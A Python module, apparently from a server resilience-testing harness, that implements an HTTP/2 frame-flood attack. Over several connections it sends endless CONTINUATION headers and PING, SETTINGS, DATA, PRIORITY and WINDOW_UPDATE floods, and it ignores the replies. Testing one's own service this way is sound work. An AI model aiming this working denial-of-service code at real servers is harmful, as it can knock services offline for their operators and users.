"""Frames of HTTP/2 that cost the sender nothing."""

import time

from . import wire
from .attack import Attack

_CONNECTIONS = 4
_MOST_BYTES_PER_SECOND = 4 << 20  # of all: more would measure who has the processor


class FrameFloods(Attack):
    name = "frame-floods"
    about = "headers without end, pings, settings, empty data, priorities, each on connections of its own, whose answers nobody reads"

    @staticmethod
    def attack(address: str, seconds: float) -> list[str]:
        port = int(address.rpartition(":")[2])
        headers = wire.call_headers(wire.SERVICE + "StreamCheckpoints")
        call = wire.frame(wire.HEADERS, wire.END_HEADERS, 1, headers)
        kinds = [  # what begins it, what is sent again and again
            (wire.frame(wire.HEADERS, 0, 1, headers), wire.frame(wire.CONTINUATION, 0, 1, wire.header(b"x", b"y" * 100) * 50)),
            (b"", wire.frame(wire.PING, 0, 0, b"12345678") * 50),
            (b"", wire.frame(wire.SETTINGS, 0, 0, b"\0\4\0\0\xff\xff") * 50),
            (call, wire.frame(wire.DATA, 0, 1) * 100),
            (b"", wire.frame(2, 0, 1, b"\0\0\0\0\x10") * 100),  # PRIORITY
            (call, wire.frame(wire.WINDOW_UPDATE, 0, 1, b"\0\0\0\1") * 100),
        ]
        pace = sum(len(burst) for _, burst in kinds) * _CONNECTIONS / _MOST_BYTES_PER_SECOND
        opened = [[None, begin, burst] for begin, burst in kinds * _CONNECTIONS]
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            begin_of_round = time.monotonic()
            for entry in opened:
                connection, begin, burst = entry
                try:
                    if connection is None:  # new, or it has hung up, as it may
                        entry[0] = connection = wire.open_socket(port)
                        connection.sendall(wire.greeting() + begin)
                        connection.setblocking(False)
                    connection.send(burst)
                except BlockingIOError:
                    pass  # it does not read on: so much the better
                except OSError:
                    if connection is not None:
                        connection.close()
                    entry[0] = None
            time.sleep(max(0.0, pace - (time.monotonic() - begin_of_round)))
        for connection, _, _ in opened:
            if connection is not None:
                connection.close()
        return []
